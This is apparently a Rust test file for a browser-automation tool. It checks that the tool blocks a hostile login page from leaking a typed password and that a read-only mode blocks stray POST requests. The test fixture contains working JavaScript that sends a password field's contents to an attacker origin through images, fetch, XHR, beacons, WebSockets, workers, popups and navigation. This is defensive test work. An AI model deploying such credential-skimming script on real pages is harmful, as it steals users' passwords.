//! The browser against pages that try to get around shakedown's guard: a login page whose own
//! scripts and workers try every way to carry the typed password to another origin, and pages on
//! a read-only environment that post from workers, pings, policy reports and popups. What got
//! through is read from the receiving servers' own logs.

use axum::Router;
use axum::http::header::{CONTENT_SECURITY_POLICY, CONTENT_TYPE};
use axum::response::{Html, IntoResponse};
use axum::routing::get;

use crate::browser::browser_turn;
use crate::support::Project;
use crate::support::recording::RecordingServer;

const PASSWORD: &str = "hostile-page-pw-31";

const CLERK: &str = r#"
[login]
path = "/accounts/login/"

[roles.clerk]
username = "clerk"
password_env = "HOSTILE_CLERK_PASSWORD"

[browser]
login_form = true
sessions = 1
"#;

/// A script the site serves.
fn script(source: String) -> impl IntoResponse {
    ([(CONTENT_TYPE, "text/javascript")], source)
}

/// The login page: a plain form, and scripts that send what is typed into the password field
/// to `attacker` in every way a page has. The workers are the site's own scripts.
pub(crate) fn hostile_login_page(attacker: &str) -> Html<String> {
    let socket = attacker.replacen("http://", "ws://", 1);
    Html(format!(
        r#"<form method="post" action="/accounts/login/"><input name="username">
<input type="password" name="password" id="pw"><button>Log in</button></form>
<script>
const A = '{attacker}';
const worker = new Worker('/dedicated.js');
const shared = new SharedWorker('/shared.js');
navigator.serviceWorker.register('/sw.js');
const pw = document.getElementById('pw');
const carry = (value) => {{
  const v = encodeURIComponent(value);
  new Image().src = A + '/image?pw=' + v;
  fetch(A + '/fetch', {{ method: 'POST', body: value, mode: 'no-cors' }}).catch(() => {{}});
  const xhr = new XMLHttpRequest(); xhr.open('GET', A + '/xhr?pw=' + v); xhr.send();
  navigator.sendBeacon(A + '/beacon', value);
  try {{ new WebSocket('{socket}/socket?pw=' + v); }} catch (e) {{}}
  worker.postMessage(value);
  shared.port.postMessage(value);
  navigator.serviceWorker.ready.then((registration) => registration.active.postMessage(value));
}};
pw.addEventListener('input', () => carry(pw.value));
pw.addEventListener('change', () => carry(pw.value));
pw.form.addEventListener('submit', (event) => {{
  event.preventDefault();
  const v = encodeURIComponent(pw.value);
  setTimeout(() => carry(pw.value), 1500);
  window.open(A + '/popup?pw=' + v);
  location = A + '/navigate?pw=' + v;
}});
</script>"#
    ))
}

/// A worker script that sends every message it gets to `attacker`, at once and again a little
/// later, when shakedown may think the login is over.
fn carrying_worker(attacker: &str, kind: &str) -> String {
    let send = format!(
        "const carry = (value) => {{ const send = () => fetch('{attacker}/{kind}?pw=' + encodeURIComponent(value), {{ mode: 'no-cors' }}).catch(() => {{}}); send(); setTimeout(send, 1500); }};"
    );
    match kind {
        "shared" => format!(
            "{send}\nonconnect = (event) => {{ event.ports[0].onmessage = (message) => carry(message.data); }};"
        ),
        "service" => format!(
            "{send}\nself.addEventListener('install', () => self.skipWaiting());\nself.addEventListener('activate', (event) => event.waitUntil(clients.claim()));\nself.addEventListener('message', (message) => carry(message.data));"
        ),
        _ => format!("{send}\nonmessage = (message) => carry(message.data);"),
    }
}

#[test]
fn a_login_page_carries_the_password_to_no_other_origin_by_any_route() {
    let _turn = browser_turn();
    let attacker = RecordingServer::start(Router::new());
    let page = hostile_login_page(&attacker.url);
    let workers = ["dedicated", "shared", "service"].map(|kind| carrying_worker(&attacker.url, kind));
    let [dedicated, shared, service] = workers;
    let site = RecordingServer::start(
        Router::new()
            .route("/", get(|| async { Html("<p>home</p>") }))
            // A slow page keeps the browser open a while after the login, for anything that
            // still holds the password to try again.
            .route(
                "/slow",
                get(|| async {
                    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
                    Html("<p>slow</p>")
                }),
            )
            .route(
                "/accounts/login/",
                get(move || async move { page }).post(|| async { axum::response::Redirect::to("/") }),
            )
            .route("/dedicated.js", get(move || async move { script(dedicated) }))
            .route("/shared.js", get(move || async move { script(shared) }))
            .route("/sw.js", get(move || async move { script(service) })),
    );
    let project = Project::new(&site.url, CLERK);
    project.file(
        "features/login.feature",
        "Feature: Login\n  Scenario: clerk\n    Given I am logged in as \"clerk\"\n    When I visit \"/\"\n\n  Scenario: afterwards\n    When I visit \"/slow\"\n    Then I should see \"slow\"\n",
    );
    let outcome = project
        .shakedown()
        .env("HOSTILE_CLERK_PASSWORD", PASSWORD)
        // One at a time, in order: the slow page comes after the login, while anything that
        // kept the password could still send it.
        .args(["run", "--concurrency", "1"])
        .run();
    outcome
        .expect_code(1)
        .expect_stdout("1 passed, 1 failed")
        .expect_stdout(
            "refused to send the password of role `clerk` on: while it was in the login page, the page sent",
        )
        .expect_stdout(&attacker.url);
    // What was refused is named by its origin only: the rest of its address carried the
    // password, a character more each time.
    assert!(
        !outcome.stdout.contains("hostile-page"),
        "a part of the password shows:\n{}",
        outcome.stdout
    );
    let lines = site.request_lines();
    for script in ["/dedicated.js", "/shared.js", "/sw.js"] {
        assert!(
            lines.iter().any(|line| line == &format!("GET {script}")),
            "the login page never started {script}, so the test proves nothing: {lines:?}"
        );
    }
    assert!(
        attacker.received().is_empty(),
        "the login page reached another origin: {:?}",
        attacker.request_lines()
    );
}

/// A page whose script (or worker) posts to `/written?by=KIND` and then says "done".
fn posting_page(kind: &str) -> Html<String> {
    let post = format!("fetch('/written?by={kind}', {{ method: 'POST', body: 'x' }}).catch(() => {{}})");
    let script = match kind {
        "dedicated" => format!("new Worker('/worker.js?by={kind}'); setTimeout(done, 1000);"),
        "shared" => format!("new SharedWorker('/worker.js?by={kind}'); setTimeout(done, 1000);"),
        "service" => "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage('go')); setTimeout(done, 1500);".to_owned(),
        "popup" => "window.open('/popup-inner'); setTimeout(done, 1000);".to_owned(),
        "fetch" => format!("{post}; setTimeout(done, 500);"),
        _ => "setTimeout(done, 500);".to_owned(),
    };
    Html(format!(
        r#"<a href="/after" ping="/written?by=ping">Onwards</a><img src="/blocked.png" alt="">
<p id="state">waiting</p>
<script>const done = () => {{ document.getElementById('state').textContent = 'done'; }}; {script}</script>"#
    ))
}

#[test]
fn a_read_only_environment_fails_the_step_for_a_post_from_any_worker_ping_report_or_popup() {
    let _turn = browser_turn();
    let route = |kind: &'static str| get(move || async move { posting_page(kind) });
    let site = RecordingServer::start(
        Router::new()
            .route("/", get(|| async { Html("<p>home</p>") }))
            .route(
                "/accounts/login/",
                get(|| async {
                    Html(r#"<form method="post" action="/accounts/login/"><input name="username"><input type="password" name="password"><img src="/logo.png" alt=""><button>Log in</button></form>"#)
                })
                .post(|| async { axum::response::Redirect::to("/") }),
            )
            .route("/dedicated", route("dedicated"))
            .route("/shared", route("shared"))
            .route("/service", route("service"))
            .route("/popup", route("popup"))
            .route("/ping", route("ping"))
            .route(
                "/report",
                get(|| async {
                    (
                        [(CONTENT_SECURITY_POLICY, "img-src 'none'; report-uri /written?by=report")],
                        posting_page("report"),
                    )
                }),
            )
            .route("/after", get(|| async { Html("<p>after</p>") }))
            .route(
                "/leaving",
                get(|| async {
                    Html("<p>leaving</p><script>addEventListener('pagehide', () => navigator.sendBeacon('/written?by=leaving', 'x'));</script>")
                }),
            )
            .route(
                "/worker.js",
                get(|| async {
                    script(
                        "const post = () => fetch(location.search.replace('?', '/written?'), { method: 'POST', body: 'x' }).catch(() => {});\npost();\nonconnect = () => post();"
                            .to_owned(),
                    )
                }),
            )
            .route(
                "/sw.js",
                get(|| async {
                    script(
                        "self.addEventListener('install', () => self.skipWaiting());\nself.addEventListener('message', () => fetch('/written?by=service', { method: 'POST', body: 'x' }).catch(() => {}));"
                            .to_owned(),
                    )
                }),
            )
            .route(
                "/popup-inner",
                get(|| async {
                    Html("<script>fetch('/written?by=popup', { method: 'POST', body: 'x' }).catch(() => {});</script>")
                }),
            ),
    );
    let project = Project::new(&site.url, &format!("read_only = true\n{CLERK}"));
    let mut feature = String::from(
        "Feature: Read-only pages\n  Scenario: an honest login still works\n    Given I am logged in as \"clerk\"\n    When I visit \"/\"\n    Then I should see \"home\"\n",
    );
    for kind in ["dedicated", "shared", "service", "popup", "report"] {
        feature.push_str(&format!(
            "\n  Scenario: {kind}\n    When I visit \"/{kind}\"\n    Then I should see \"done\"\n"
        ));
    }
    feature.push_str("\n  Scenario: ping\n    When I visit \"/ping\"\n    And I click \"Onwards\"\n    Then I should see \"after\"\n");
    // The page posts only as it is left, after the scenario's last step: the scenario fails.
    feature.push_str(
        "\n  Scenario: leaving\n    When I visit \"/leaving\"\n    Then I should see \"leaving\"\n",
    );
    project.file("features/read_only.feature", &feature);
    let outcome = project
        .shakedown()
        .env("HOSTILE_CLERK_PASSWORD", PASSWORD)
        .args(["run", "--concurrency", "1"])
        .run();
    outcome
        .expect_code(1)
        .expect_stdout("1 passed, 7 failed")
        .expect_stdout("(after the scenario's last step)");
    for kind in [
        "dedicated",
        "shared",
        "service",
        "popup",
        "report",
        "ping",
        "leaving",
    ] {
        outcome.expect_stdout(&format!("refused to send POST {}/written?by={kind}", site.url));
    }
    let lines = site.request_lines();
    let mutating: Vec<&String> = lines
        .iter()
        .filter(|line| !line.starts_with("GET ") && *line != "POST /accounts/login/")
        .collect();
    assert!(
        mutating.is_empty(),
        "a mutating request reached the site: {mutating:?}"
    );
    assert!(
        lines.iter().any(|line| line == "GET /popup-inner"),
        "the popup never opened, so the test proves nothing: {lines:?}"
    );
}
